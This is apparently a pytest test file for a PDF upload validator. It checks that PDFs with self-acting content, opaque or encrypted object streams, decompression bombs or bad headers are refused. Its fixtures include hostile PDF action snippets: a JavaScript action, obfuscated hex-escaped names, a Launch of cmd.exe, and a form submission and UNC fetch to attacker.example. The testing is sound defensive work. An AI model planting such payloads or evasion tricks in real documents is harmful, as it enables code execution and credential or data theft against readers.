"""What a PDF may not do, and where it cannot hide that."""

import zlib

import pytest

from tests import contents
from tests.contents import PDF, pdf, refusal

ACTS = "scripts or files"
OPAQUE = "protected or damaged"


@pytest.mark.parametrize(
    "acts",
    [
        b"<</S /JavaScript /JS (app.alert\\(1\\))>>",
        b"<</S /J#61va#53cript /JS (app.alert\\(1\\))>>",
        b"<</S/#4a#61#76#61#53#63#72#69#70#74/JS 9 0 R>>",
        b"<</S /Launch /F (cmd.exe)>>",
        b"<</Type /Filespec /EF <</F 9 0 R>>>> <</Type /EmbeddedFile>>",
        b"<</Names <</EmbeddedFiles 9 0 R>>>>",
        b"<</S /SubmitForm /F (https://attacker.example)>>",
        b"<</S /ImportData /F (x.fdf)>>",
        b"<</S /GoToR /F (\\\\\\\\attacker.example\\\\x)>>",
        b"<</S /GoToE>>",
        b"<</Subtype /RichMedia>>",
        b"<</AcroForm <</XFA 9 0 R>>>>",
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused_wherever_that_is_written(acts: bytes):
    padding = contents.stream(bytes(70_000))

    assert ACTS in refusal(PDF, pdf(acts))
    assert ACTS in refusal(PDF, pdf(padding, acts, padding))
    assert ACTS in refusal(PDF, pdf(contents.stream(acts)))
    assert ACTS in refusal(PDF, pdf(contents.packed(acts)))
    assert ACTS in refusal(PDF, pdf(padding, contents.packed(bytes(70_000), acts)))


@pytest.mark.parametrize(
    "entries",
    [
        b" /Filter /LZWDecode",
        b" /Filter [/ASCIIHexDecode /FlateDecode]",
        b" /Filter /Fl#61teDecode",
        b" /Filter 9 0 R",
        b" /F (elsewhere)",
        b" /Filter /FlateDecode /DecodeParms <</Predictor 12>>",
        b" /Filter /FlateDecode /Filter /FlateDecode",
        b" /Filter %\n/FlateDecode",
        b" " * 2000,
    ],
)
def test_objects_that_cannot_be_looked_into_are_refused(entries: bytes):
    content = zlib.compress(b"5 0 <</S /JavaScript>>")
    hidden = contents.stream(content, contents.OBJECT_STREAM, entries)

    assert OPAQUE in refusal(PDF, pdf(hidden))


def test_packed_objects_that_are_enciphered_cut_off_or_elsewhere_are_refused():
    enciphered = contents.stream(b"\x91\x8a" * 50, contents.OBJECT_STREAM, contents.FLATE)
    cut_off = contents.stream(
        zlib.compress(b"5 0 <</A 1>>")[:-6], contents.OBJECT_STREAM, contents.FLATE
    )

    assert OPAQUE in refusal(PDF, pdf(enciphered, trailer=b" /Encrypt 9 0 R"))
    assert OPAQUE in refusal(PDF, pdf(cut_off))
    assert OPAQUE in refusal(PDF, pdf(b"/ObjStm"))


def test_a_pdf_that_swells_is_refused():
    packed = zlib.compress(bytes(65 << 20))

    said = refusal(PDF, pdf(contents.stream(packed, contents.OBJECT_STREAM, contents.FLATE)))

    assert "swells" in said


@pytest.mark.parametrize("content", [pdf(version="1.9"), b"%PDF-1.4" + pdf()[8:].lstrip(b"\n")])
def test_a_pdf_that_begins_wrongly_is_refused(content: bytes):
    assert "does not begin as one" in refusal(PDF, content)
